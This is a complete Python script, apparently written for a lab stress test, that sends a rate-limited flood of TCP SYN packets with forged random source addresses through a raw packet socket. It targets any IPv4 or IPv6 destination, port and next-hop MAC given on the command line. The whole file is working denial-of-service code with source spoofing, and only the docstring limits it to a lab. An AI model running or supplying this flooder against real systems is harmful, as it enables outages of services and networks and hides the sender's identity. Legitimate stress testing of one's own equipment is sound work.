#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""synflood.py INTERFACE VLAN DESTINATION PORT SECONDS MAC: SYNs with forged sources to a server of the lab, to the
next hop of this MAC; VLAN 0: untagged. Prints how many. At a rate that leaves the lab's own ends room to talk: how
much the gateway bears is the storms' question. Traffic stays in the lab."""
import ipaddress
import random
import socket
import struct
import sys
import time

SOURCES = 20000  # frames made before; the ports vary with them
RATE, BURST = 25000, 250  # a second; at once


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, port):
    mss = b"\x02\x04\x05\xb4\x01\x03\x03\x07\x01\x01\x04\x02"
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x80, 2, 64240,
                       0, 0) + mss
    pseudo = source + destination + struct.pack("!IHBB", len(head), 0, 0, 6)
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def frame(link, destination, port):
    if destination.version == 6:
        source = ipaddress.ip_address("2001:db8:f100::").packed[:8] + random.randbytes(8)
        tcp = syn(source, destination.packed, port)
        return link + struct.pack("!HIHBB", 0x86DD, 6 << 28, len(tcp), 6, 60) + source + destination.packed + tcp
    source = bytes([44]) + random.randbytes(3)
    tcp = syn(source, destination.packed, port)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 60, 6, 0) + source + destination.packed
    return link + struct.pack("!H", 0x0800) + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main():
    interface, vlan, port, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[4]), float(sys.argv[5])
    destination = ipaddress.ip_address(sys.argv[3])
    link = bytes.fromhex(sys.argv[6].replace(":", "")) + b"\x02\x00\x00\x00\x00\xfe"
    link += struct.pack("!HH", 0x8100, vlan) if vlan else b""
    frames = [frame(link, destination, port) for _ in range(SOURCES)]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    sent, start = 0, time.monotonic()
    while (passed := time.monotonic() - start) < seconds:
        if sent > passed * RATE:
            time.sleep(BURST / RATE / 2)
            continue
        at = sent % SOURCES
        for one in frames[at:at + BURST]:
            try:
                out.send(one)
                sent += 1
            except OSError:  # the queue is full
                pass
    print(sent)


main()
